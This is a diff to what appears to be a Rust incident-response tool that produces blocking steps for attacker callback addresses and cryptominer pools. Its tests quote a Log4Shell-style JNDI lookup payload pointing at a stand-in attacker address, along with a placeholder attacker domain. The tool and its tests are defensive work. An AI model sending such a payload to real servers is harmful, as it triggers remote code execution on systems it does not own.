@@ -19,7 +19,8 @@ const ESCAPE_RULES: &[&str] = &[
     "exposure.host-pid",
     "exposure.cap-add",
 ];
-/// Finding categories whose summaries carry the attacker's addresses.
+/// Finding categories whose summaries carry the attacker's addresses (miner findings,
+/// rules ending in `.miner`, carry the pool's).
 const IOC_CATEGORIES: &[&str] = &["initial-access", "command-and-control"];
 /// Characters of a finding summary quoted in a step's `why`.
 const QUOTE_MAX: usize = 240;
@@ -279,13 +280,16 @@ fn finding_steps(steps: &mut Vec<ResponseStep>, targets: &[Target], findings: &[
         });
     }
 
-    let iocs: Vec<&Finding> =
-        findings.iter().filter(|f| IOC_CATEGORIES.contains(&f.category.as_str())).collect();
+    // Callbacks of the intrusion, and the pools a miner talks to (egress to block too).
+    let iocs: Vec<&Finding> = findings
+        .iter()
+        .filter(|f| IOC_CATEGORIES.contains(&f.category.as_str()) || f.rule.ends_with(".miner"))
+        .collect();
     if !iocs.is_empty() {
         let quoted: Vec<String> =
             iocs.iter().map(|f| format!("{}: \"{}\"", f.rule, clip(&f.summary))).collect();
         let (ips, hosts) = indicators(&iocs);
-        let mut block: Vec<String> = ips
+        let block: Vec<String> = ips
             .iter()
             .flat_map(|ip| {
                 [
@@ -294,10 +298,15 @@ fn finding_steps(steps: &mut Vec<ResponseStep>, targets: &[Target], findings: &[
                 ]
             })
             .collect();
-        block.extend(hosts.iter().map(|h| format!("# block {h} at the DNS resolver / egress proxy")));
+        let names = if hosts.is_empty() {
+            String::new()
+        } else {
+            let list: Vec<&str> = hosts.iter().map(String::as_str).collect();
+            format!("; block these host names at the DNS resolver or egress proxy: {}", list.join(", "))
+        };
         steps.push(ResponseStep {
             step: "Block the attacker's callback addresses".into(),
-            why: format!("the findings name them: {}", quoted.join("; ")),
+            why: format!("the findings name them: {}{names}", quoted.join("; ")),
             commands: block,
         });
         let all: Vec<&String> = ips.iter().chain(hosts.iter()).collect();
@@ -537,7 +546,7 @@ mod tests {
         assert!(cmds(5).contains("docker top web -eo pid,ppid,user,lstart,args > web.top.txt"));
         assert_eq!(cmds(6), "docker network disconnect backend web\ndocker network disconnect bridge web");
         assert!(cmds(10).contains("iptables -I DOCKER-USER -d 198.51.100.7 -j DROP"), "{}", cmds(10));
-        assert!(cmds(10).contains("evil.example.com"));
+        assert!(plan[10].why.ends_with("egress proxy: evil.example.com"), "{}", plan[10].why);
         assert!(plan[10].why.contains("${jndi:ldap://198.51.100.7:1389/Exploit}"));
         assert!(cmds(11).contains("-e 198.51.100.7 -e evil.example.com"), "{}", cmds(11));
         assert!(
